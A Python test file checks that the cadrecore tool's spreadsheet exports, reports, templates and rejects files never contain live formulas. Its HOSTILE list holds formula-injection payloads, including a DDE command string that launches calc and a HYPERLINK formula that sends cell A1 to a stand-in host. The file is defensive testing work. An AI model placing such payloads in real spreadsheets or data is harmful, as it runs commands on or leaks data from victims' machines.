"""No workbook cadrecore writes holds a formula, whatever text the ledger holds (issue #20,
item 3): a unit named ``=HYPERLINK(…)`` or a theme titled ``=cmd|' /C calc'!A0`` is text in the
export, the annual report, the roster template and a rejects file alike.

Each command is run as a user runs it, and every cell of every sheet of what it wrote is
walked twice: in the file's own XML (no ``<f>`` element anywhere) and through openpyxl (no
cell of the formula type).
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

import cadrecore
from cadrecore import Ledger
from cadrecore.cli import app
from cadrecore.io.cell_text import FORMULA_STARTS
from cadrecore.sample import small_ledger
from cadrecore.store import open_store

runner = CliRunner()
HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"点此")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "\t=1",
]
#: A formula element in a sheet's XML.
FORMULA_XML = re.compile(rb"<(?:\w+:)?f[ >/]")


def hostile_ledger() -> Ledger:
    """The sample ledger with people's text replaced by text a spreadsheet would run."""
    ledger = small_ledger(2022)

    def renamed(records: Any, field: str, first: int = 0) -> tuple[Any, ...]:
        out = []
        for n, record in enumerate(records):
            text = HOSTILE[(first + n) % len(HOSTILE)] + f" {n}"
            out.append(record.model_copy(update={field: text}))
        return tuple(out)

    return ledger.replace(
        jurisdiction=ledger.jurisdiction.model_copy(update={"name": HOSTILE[0]}),
        units=renamed(ledger.units, "name"),
        cadres=renamed(ledger.cadres, "former_unit"),
        themes=renamed(ledger.themes, "title", first=1),
        activities=renamed(ledger.activities, "title"),
    )


def formulas_in(path: Path) -> list[str]:
    """Every formula in the workbook at ``path``, found in its XML and through openpyxl."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and FORMULA_XML.search(archive.read(name)):
                found.append(f"{name}: <f> element")
    workbook = load_workbook(path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
                elif isinstance(cell.value, str) and cell.value[:1] in FORMULA_STARTS:
                    found.append(f"{sheet.title}!{cell.coordinate}: starts like a formula")
    return found


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "hostile.sqlite"
    with cadrecore.using_plugin_manager(cadrecore.new_plugin_manager(load_installed=False)):
        ledger = hostile_ledger()
        with open_store(path) as store:
            store.save(ledger, actor="test")
    return path


@pytest.fixture(autouse=True)
def no_department_plugins() -> Any:
    with cadrecore.using_plugin_manager(cadrecore.new_plugin_manager(load_installed=False)):
        yield


def test_the_hostile_ledger_really_holds_hostile_text(hostile_store: Path) -> None:
    with open_store(hostile_store) as store:
        loaded = store.load()
    assert loaded.jurisdiction.name == HOSTILE[0]
    assert any(t.title.startswith("=cmd") for t in loaded.themes)


@pytest.mark.parametrize("unmask", [False, True])
def test_the_export_holds_no_formula(hostile_store: Path, tmp_path: Path, unmask: bool) -> None:
    out = tmp_path / "export.xlsx"
    args = ["export", "-o", str(out), "--store", str(hostile_store)]
    done = runner.invoke(app, [*args, "--unmask"] if unmask else args)
    assert done.exit_code == 0, done.output
    assert formulas_in(out) == []


def test_the_annual_report_holds_no_formula(hostile_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.xlsx"
    done = runner.invoke(
        app, ["report", str(hostile_store), "--year", "2022", "--format", "xlsx", "-o", str(out)]
    )
    assert done.exit_code == 0, done.output
    text = " ".join(
        str(c.value) for s in load_workbook(out).worksheets for r in s.iter_rows() for c in r
    )
    assert "cmd|" in text  # the hostile titles are there, as text
    assert formulas_in(out) == []


def test_the_template_holds_no_formula(hostile_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "template.xlsx"
    done = runner.invoke(app, ["template", str(out), "--store", str(hostile_store)])
    assert done.exit_code == 0, done.output
    assert formulas_in(out) == []


def test_a_rejects_file_holds_no_formula(hostile_store: Path, tmp_path: Path) -> None:
    roster = tmp_path / "roster.csv"
    lines = ["姓名,性别,出生年月,参加工作时间,离退休类型,离退休时间,所在县区,原工作单位"]
    lines += [f'"{t}",男,1950.03,1968.09,退休,不详,东县,"{t}"' for t in HOSTILE]
    roster.write_text("\n".join(lines) + "\n", encoding="utf-8-sig")
    rejects = tmp_path / "rejects.xlsx"
    done = runner.invoke(
        app,
        [
            "import",
            str(roster),
            "--store",
            str(hostile_store),
            "--keep-good",
            "--dry-run",
        ],
    )
    assert done.exit_code == 0, done.output
    from cadrecore.io.importing import import_files, write_rejects

    with open_store(hostile_store) as store:
        base = store.load()
    outcome = import_files([roster], base=base, keep_good=True)
    assert len(outcome.rejected) == len(HOSTILE)
    (written,) = write_rejects(outcome, rejects)
    assert formulas_in(written) == []
